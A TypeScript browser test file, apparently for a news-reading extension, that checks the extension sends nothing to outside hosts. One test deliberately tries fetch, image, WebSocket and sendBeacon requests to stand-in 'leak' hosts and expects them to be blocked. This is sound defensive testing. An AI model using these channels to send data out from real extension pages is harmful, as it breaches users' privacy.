import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Page, pause, until } from '../support/browser.ts';
import { inEachBrowser } from '../support/in-each-browser.ts';
import { placeOf, waitForMarks } from '../support/marks.ts';
import { openPopup, waitForClaims } from '../support/popup.ts';
import { type Watch, watchRequests } from '../support/serve.ts';

let watch: Watch | undefined;
beforeAll(async () => {
  watch = await watchRequests();
});
afterAll(() => watch?.close());

/** Hosts that the browsers themselves ask for, whatever is installed. */
const browsersOwn =
  /(?:^|\.)(?:google|googleapis|gstatic|googleusercontent|mozilla|firefox|mozgcp|digicert|lencr)\.(?:com|org|net|dev)$/;
const asked = () => watch?.hosts ?? [];
const hosts = () => asked().filter((host) => !browsersOwn.test(host) && !host.startsWith('control-'));

inEachBrowser(
  (stage) => {
    describe('whatever the reader does', () => {
      test('nothing is asked of any host, and nothing of the page’s site but the page', async () => {
        const page = await stage.open('sample');
        await waitForMarks(page);
        await page.move(await placeOf(page, '#p1', 'ceasefire'));
        await until('the card', () => page.inClosedRoot((root) => root.textContent !== ''));
        const popup = await openPopup(stage.browser, await page.tab());
        await waitForClaims(popup, 7);
        const options = await stage.browser.openOwn('options.html#/corpus');
        await pause(800);
        for (const one of [options, popup, page]) await one.close();
        expect(hosts()).toEqual([]);
        expect(stage.site.asked).toEqual(['/pages/sample/source.html']);
      });

      test.each(['popup.html', 'options.html', 'sidepanel.html'])(
        '%s cannot send anything, though it tried',
        async (path) => {
          const own = await stage.browser.openOwn(path);
          const tried = await own.run(async () => {
            const attempts: Promise<string>[] = [
              fetch('http://leak-fetch.example/').then(
                () => 'sent',
                () => 'refused',
              ),
              new Promise((resolve) => {
                const image = new Image();
                image.addEventListener('load', () => resolve('sent'));
                image.addEventListener('error', () => resolve('refused'));
                image.src = 'http://leak-image.example/x.png';
              }),
              new Promise((resolve) => {
                try {
                  const socket = new WebSocket('ws://leak-socket.example/');
                  socket.addEventListener('open', () => resolve('sent'));
                  socket.addEventListener('error', () => resolve('refused'));
                } catch {
                  resolve('refused');
                }
              }),
            ];
            navigator.sendBeacon('http://leak-beacon.example/', 'x');
            return Promise.all(attempts);
          });
          await pause(300);
          await own.close();
          expect(tried).toEqual(['refused', 'refused', 'refused']);
          expect(hosts()).toEqual([]);
        },
      );

      test('the watch itself works: a page that asks another host is seen', async () => {
        const page: Page = await stage.open('site/not-news.html');
        await page.run(
          (name) =>
            fetch(`http://control-${name}.example/`, { mode: 'no-cors' }).then(
              () => null,
              () => null,
            ),
          stage.name,
        );
        await page.close();
        expect(asked()).toContain(`control-${stage.name}.example`);
      });
    });
  },
  { proxy: () => watch?.port ?? 0 },
);
